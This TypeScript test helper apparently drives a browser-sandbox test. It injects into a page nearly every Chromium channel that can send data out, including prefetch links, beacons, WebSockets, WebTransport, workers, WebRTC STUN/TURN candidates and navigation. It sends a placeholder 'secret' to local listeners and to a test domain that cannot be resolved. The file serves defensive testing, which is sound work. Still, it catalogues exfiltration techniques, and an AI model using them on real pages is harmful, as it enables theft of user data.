/** Where the listeners of a test are, on this computer, and a domain whose names nobody may look up. */
export interface Outside {
  tcpPort: number;
  udpPort: number;
  domain: string;
}

/**
 * What a script that got into the window would try, to get a secret out: every way that Chromium has to send a byte.
 * Runs in the page, so it uses nothing from outside. Settles when WebRTC has looked for all its ways.
 */
export async function tryEveryWayOut({ tcpPort, udpPort, domain }: Outside): Promise<void> {
  const plain = `http://127.0.0.1:${String(tcpPort)}`;
  const secure = `https://127.0.0.1:${String(tcpPort)}`;
  const attempt = (way: () => unknown): void => {
    // Most are refused by an exception or a promise; what counts is what the listeners saw.
    try {
      void Promise.resolve(way()).catch(() => undefined);
    } catch {
      // Refused.
    }
  };
  const put = (html: string): void => {
    attempt(() => {
      document.body.insertAdjacentHTML('beforeend', html);
    });
  };

  const rels = ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender'];
  for (const rel of [
    ...rels,
    'stylesheet',
    'icon',
    'apple-touch-icon',
    'manifest',
    'next',
    'search',
    'pingback',
  ]) {
    for (const href of [
      `${plain}/${rel}`,
      `//127.0.0.1:${String(tcpPort)}/${rel}`,
      `https://${rel}.${domain}/`,
    ]) {
      put(`<link rel="${rel}" as="image" href="${href}">`);
      put(`<iframe srcdoc='<link rel="${rel}" as="script" href="${href}">'></iframe>`);
    }
  }
  put(`<meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://anchor.${domain}/">a</a>`);
  put(`<meta http-equiv="refresh" content="0;url=${plain}/refresh">`);
  put(`<img src="${plain}/img"><img srcset="${plain}/srcset 1x"><input type="image" src="${plain}/input">`);
  put(`<video src="${plain}/video" poster="${plain}/poster"></video><audio src="${plain}/audio"></audio>`);
  put(
    `<iframe src="${plain}/frame"></iframe><object data="${plain}/object"></object><embed src="${plain}/embed">`,
  );
  put(
    `<svg><image href="${plain}/svg"/><use href="${plain}/use#a"/></svg><div style="background:url(${plain}/css)">`,
  );
  put(`<a id="ping" href="#" ping="${plain}/ping">p</a><form id="form" action="${plain}/form"></form>`);
  put(`<script type="speculationrules">{"prefetch":[{"urls":["${plain}/spec"]}]}</script>`);
  put(`<a id="download" download href="${plain}/download">d</a>`);
  attempt(() => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${plain}/sheet) }`);
    document.adoptedStyleSheets.push(sheet);
  });
  attempt(() => new FontFace('x', `url(${plain}/font)`).load());
  attempt(() => fetch(`${plain}/fetch`, { mode: 'no-cors', keepalive: true }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${plain}/xhr`);
    request.send();
  });
  attempt(() => navigator.sendBeacon(`${plain}/beacon`, 'secret'));
  attempt(() => new WebSocket(`ws://127.0.0.1:${String(tcpPort)}/`));
  attempt(() => new WebSocket(`wss://socket.${domain}/`));
  attempt(() => new EventSource(`${plain}/events`));
  attempt(() => new WebTransport(`https://127.0.0.1:${String(udpPort)}/`).ready);
  attempt(() => new Worker(`${plain}/worker.js`));
  attempt(() => new SharedWorker(`${plain}/shared.js`));
  attempt(() => navigator.serviceWorker.register(`${plain}/service.js`));
  attempt(() => import(`${plain}/module.js`));
  attempt(() => new Notification('x', { icon: `${plain}/notification` }));
  attempt(() => window.open(`${plain}/open`));
  attempt(() => window.open(`mailto:secret@${domain}`));
  for (const id of ['ping', 'download']) attempt(() => document.getElementById(id)?.click());
  attempt(() => {
    (document.getElementById('form') as HTMLFormElement).submit();
  });

  const account = { username: 'secret', credential: 'secret' };
  const servers = [
    { urls: `stun:127.0.0.1:${String(udpPort)}` },
    { urls: `stun:stun.${domain}` },
    ...['turn', 'turns'].flatMap((scheme) =>
      ['udp', 'tcp'].flatMap((transport) => [
        {
          urls: `${scheme}:127.0.0.1:${String(transport === 'udp' ? udpPort : tcpPort)}?transport=${transport}`,
          ...account,
        },
        { urls: `${scheme}:${scheme}-${transport}.${domain}?transport=${transport}`, ...account },
        { urls: `${scheme}:${scheme}-${transport}-keyhold.local?transport=${transport}`, ...account },
      ]),
    ),
  ];
  const peers = ['127.0.0.1', `peer.${domain}`, 'peer-keyhold.local'].flatMap((host, index) => [
    `candidate:${String(index)} 1 udp 2113937151 ${host} ${String(udpPort)} typ host`,
    `candidate:${String(index + 9)} 1 tcp 1518280447 ${host} ${String(tcpPort)} typ host tcptype passive`,
  ]);
  const connect = async (Peer: typeof RTCPeerConnection): Promise<void> => {
    const [here, there] = [new Peer({ iceServers: servers }), new Peer()];
    const gathered = new Promise<void>((resolve) => {
      here.addEventListener('icegatheringstatechange', () => {
        if (here.iceGatheringState === 'complete') resolve();
      });
    });
    here.createDataChannel('secret');
    await here.setLocalDescription(await here.createOffer());
    if (here.localDescription !== null) await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription(await there.createAnswer());
    if (there.localDescription !== null) await here.setRemoteDescription(there.localDescription);
    for (const candidate of peers) {
      await here.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).catch(() => undefined);
    }
    await gathered;
  };
  await connect(RTCPeerConnection);
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const inner = frame.contentWindow as (Window & typeof globalThis) | null;
  if (inner !== null) await connect(inner.RTCPeerConnection);

  for (const address of [`${secure}/away`, `mailto:secret@${domain}`, `${plain}/away`]) {
    attempt(() => {
      location.href = address;
    });
  }
}
